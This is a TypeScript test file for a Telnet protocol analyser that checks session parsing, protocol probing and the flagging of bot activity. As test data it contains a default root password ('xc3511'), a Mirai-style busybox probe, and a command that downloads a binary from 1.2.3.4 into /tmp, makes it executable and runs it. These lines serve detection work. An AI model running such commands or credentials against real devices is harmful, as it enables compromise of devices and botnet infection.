import assert from 'node:assert/strict'
import { test } from 'node:test'
import { hex } from '#bytes/hex'
import { mangled } from '#bytes/mangle'
import { ByteWriter } from '#bytes/write'
import type { Fact } from '#model/fact'
import { type Sent, saidInStream, sliceOf } from '#model/test-slice'
import { protocol } from './index.ts'

const stream = (...parts: readonly Sent[]) => saidInStream(protocol, parts)

function ascii(text: string): Uint8Array {
  return new ByteWriter().ascii(text).take()
}

const c = (text: string): Sent => [ascii(text), true]
const s = (text: string): Sent => [ascii(text), false]

function sessions(said: readonly Fact[]) {
  return said.filter((fact) => fact.kind === 'session')
}

const options: Sent = [hex('fffd18 fffd20'), false]
const logon = [options, s('plc login: '), c('ro'), c('ot\r\n'), s('Password: '), c('xc3511\r\n')]

test('a logon typed key by key is told once the screen answers', () => {
  const session = {
    kind: 'session',
    user: 'root',
    method: 'password',
    secured: false,
    clearText: true,
    defaultCredentials: true,
  }
  assert.deepEqual(sessions(stream(...logon, s('\r\nWelcome\r\n# '))), [{ ...session, phase: 'open' }])
  assert.deepEqual(sessions(stream(...logon, s('\r\nLogin incorrect\r\n'))), [
    { ...session, phase: 'refused' },
  ])
})

test('two negotiations prove Telnet on any port', () => {
  assert.equal(protocol.probe!(sliceOf(options[0], { isStream: true })), 'yes')
  assert.equal(protocol.probe!(sliceOf(hex('fffd'), { isStream: true })), 'more')
  assert.equal(protocol.probe!(sliceOf(hex('fffd 18 00'), { isStream: true })), 'no')
})

test('one negotiation alone proves it only where it opens a session', () => {
  assert.equal(protocol.probe!(sliceOf(hex('fffb01'), { isStream: true })), 'yes')
  assert.equal(protocol.probe!(sliceOf(hex('fffb2f'), { isStream: true })), 'no')
})

test('damaged messages end', () => {
  const talk: Sent[] = [...logon, [hex('fffa 18 00 7674313030 fff0'), true]]
  for (const [i, [whole, fromClient]] of talk.entries()) {
    for (const bytes of mangled(whole)) stream(...talk.slice(0, i), [bytes, fromClient])
  }
})

test('what bots type is told, what people type is not', () => {
  const activities = (line: string) =>
    stream(...logon, s('\r\n# '), c(`${line}\r\n`)).flatMap((fact) =>
      fact.kind === 'anomaly' ? [fact.detail] : [],
    )
  assert.deepEqual(activities('/bin/busybox MIRAI'), ['asks for a program that is not there, as Mirai does'])
  assert.deepEqual(activities('cd /tmp; wget http://1.2.3.4/m.arm7 -O - > x; chmod 777 x; ./x'), [
    'fetches a program and runs it',
  ])
  assert.deepEqual(activities('show running-config'), [])
  assert.deepEqual(activities('/bin/busybox wget -h'), [])
})
